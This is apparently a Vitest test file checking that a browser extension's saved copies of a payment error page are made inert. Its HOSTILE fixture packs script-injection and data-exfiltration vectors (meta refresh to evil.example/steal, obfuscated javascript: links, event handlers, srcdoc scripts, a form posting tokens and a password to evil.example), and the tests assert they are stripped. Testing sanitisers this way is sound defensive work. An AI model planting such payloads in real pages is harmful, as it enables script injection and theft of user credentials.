// @vitest-environment happy-dom
// @vitest-environment-options {"settings": {"handleDisabledFileLoadingAsSuccess": true}}
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { readPageInPage } from '../../lib/background/capture-page';

/** A wallet page that tries every way a saved copy could act when it is opened later. */
const HOSTILE = `
<head>
  <meta http-equiv="refresh" content="0; url=https://evil.example/steal">
  <meta http-equiv="Set-Cookie" content="sid=1">
  <meta name="csrf-token" content="TOKEN-IN-META-123">
  <base href="https://evil.example/">
  <link rel="stylesheet" href="https://evil.example/track.css">
  <link rel="preload" href="https://evil.example/p.js" as="script">
  <style>@import url("https://evil.example/i.css"); body { background: url(https://evil.example/bg.png) }</style>
  <script>window.ran = true</script>
</head>
<body onload="window.ran = true">
  <div role="alert" onclick="steal()" onmouseover="steal()">We couldn't complete your payment.</div>
  <iframe srcdoc="<script>parent.ran = true</script>"></iframe>
  <a href="javascript:steal()">Try again</a>
  <a href="  JaVa&#x09;Script:steal()">Details</a>
  <a href="https://www.paypal.com/help">Help</a>
  <img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x.gif 2x" alt="logo">
  <img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">
  <form action="https://evil.example/post"><input type="hidden" name="_csrf" value="HIDDEN-TOKEN-456">
    <input type="password" value="hunter2"><button formaction="javascript:steal()">Pay</button></form>
  <object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">
  <p style="background-image: url('https://evil.example/s.png')">Amount: $12.50</p>
  <noscript><img src="https://evil.example/noscript.gif"></noscript>
  <svg><a href="javascript:steal()"><text>x</text></a><image href="https://evil.example/i.svg"/><script>steal()</script></svg>
</body>`;

// happy-dom reports the remote resources of the hostile page that it declines to load.
beforeEach(() => {
  vi.spyOn(console, 'error').mockImplementation(() => undefined);
});

describe('saved HTML copies are inert', () => {
  it('removes handlers, srcdoc, javascript: links, meta refresh, remote resources and tokens, and starts with a default-src none CSP', () => {
    document.documentElement.innerHTML = HOSTILE;
    const { html, text } = readPageInPage({ kind: 'page' });
    const copy = new DOMParser().parseFromString(html, 'text/html');

    const head = copy.querySelector('head')!;
    expect(head.firstElementChild?.getAttribute('http-equiv')).toBe('Content-Security-Policy');
    expect(head.firstElementChild?.getAttribute('content')).toMatch(/^default-src 'none'/);

    expect(
      copy.querySelectorAll('script, noscript, iframe, object, embed, base, link'),
    ).toHaveLength(0);
    expect(copy.querySelectorAll('meta[http-equiv]')).toHaveLength(1); // the CSP only
    for (const el of copy.querySelectorAll('*')) {
      for (const attr of el.attributes) {
        expect(attr.name, el.outerHTML).not.toMatch(/^on|^srcdoc$|^formaction$|^action$/i);
        expect(attr.value.replace(/\s/g, ''), `${attr.name} on ${el.localName}`).not.toMatch(
          /^(javascript|vbscript):/i,
        );
      }
    }
    expect(html).not.toContain('evil.example');
    expect(html).not.toContain('TOKEN-IN-META-123');
    expect(html).not.toContain('HIDDEN-TOKEN-456');
    expect(html).not.toContain('hunter2');
    // What the page showed is still there: its text, its own links, inline pictures and styles.
    expect(html).toContain("We couldn't complete your payment.");
    expect(copy.querySelector('a[href="https://www.paypal.com/help"]')).not.toBeNull();
    expect(copy.querySelector('img[alt="inline"]')?.getAttribute('src')).toMatch(
      /^data:image\/png/,
    );
    expect(copy.querySelector('style')?.textContent).toContain('body');
    expect(html).toContain('Amount: $12.50');
    expect(text).toContain("We couldn't complete your payment.");
  });

  it('makes the error region kept at the moment of detection inert too', () => {
    document.documentElement.innerHTML = HOSTILE;
    const { html, info } = readPageInPage({
      kind: 'region',
      matched: ["We couldn't complete your payment."],
    });
    expect(info).toBeNull();
    expect(html).toMatch(
      /^<!DOCTYPE html>\n<html><head><meta http-equiv="Content-Security-Policy" content="default-src 'none'/,
    );
    expect(html).toContain("We couldn't complete your payment.");
    expect(html).not.toMatch(/onclick|onmouseover/);
  });
});
